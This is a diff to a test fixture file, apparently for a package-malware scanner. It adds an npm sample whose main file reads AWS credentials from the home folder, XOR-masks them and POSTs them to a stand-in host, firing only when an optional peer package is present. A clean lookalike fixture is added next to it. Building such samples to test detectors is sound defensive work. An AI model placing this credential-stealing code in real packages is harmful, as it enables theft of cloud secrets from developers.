@@ -3,8 +3,10 @@ them."""
 
 from __future__ import annotations
 
+from pathlib import Path
 from textwrap import dedent, indent
 
+from tests.packages import build
 from tests.packages.fixture import Expectation, Fixture
 from tests.packages.more_thieves import CLEAN, npm, pypi, theft
 from tests.packages.npm_thieves import PERSISTED, TAINT
@@ -60,6 +62,26 @@ _PAGE = javascript(
     await fetch("https://in.page-rows.test/p", { method: "POST", body });
     """
 ).replace("if (settled()) main", 'if (settled()) document.createElement("a");\nif (settled()) main')
+
+_PEER = 'if (settled()) require("grid-kit");\n'
+
+
+def _kit(folder: Path) -> tuple[Path, ...]:
+    """The peer, which npm installs for nobody by itself."""
+    return (build.npm(folder, "grid-kit", {"index.js": "module.exports = (rows) => rows.length;\n"}),)
+
+
+_BEHIND = javascript(
+    """
+    const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
+    const body = text.map((byte, place) => byte ^ (place % 251));
+    await fetch("https://in.peer-rows.test/p", { method: "POST", body });
+    """
+).replace("if (settled()) main", f"{_PEER}if (settled()) main")
+
+_WANTS = {
+    "peerDependencies": {"grid-kit": "^1.0.0"}, "peerDependenciesMeta": {"grid-kit": {"optional": True}},
+}  # fmt: skip
 
 _WIDGET = dedent(
     """\
@@ -191,6 +213,10 @@ THIEVES: list[Fixture] = [
         theft("page-rows", "kubernetes", "in.page-rows.test", TAINT, "import"),
     ),
     npm(
+        "npm-peer", "peer-rows", "its main file loads only with an optional peer", {"index.js": _BEHIND},
+        theft("peer-rows", "aws", "in.peer-rows.test", TAINT, "import"), others=_kit, **_WANTS,
+    ),
+    npm(
         "npm-printenv", "all-rows", "the whole environment, masked: no file is read", {"setup.js": _ENVIRONMENT},
         Expectation(rules=TAINT, ways_out=("in.all-rows.test",), package="all-rows", phase="install"),
     ),
@@ -214,6 +240,10 @@ NEIGHBOURS: list[Fixture] = [
     npm(
         "npm-widget", "widget-rows", "written for browsers: it loads in a page only", {"index.js": _WIDGET}, CLEAN,
         kind="neighbour",
+    ),
+    npm(
+        "npm-wants-peer", "wants-rows", "an adapter whose framework is an optional peer",
+        {"index.js": 'module.exports = require("grid-kit")([]);\n'}, CLEAN, kind="neighbour", others=_kit, **_WANTS,
     ),
     pypi(
         "pypi-database", "kept-rows", "its command keeps databases in its own folder",
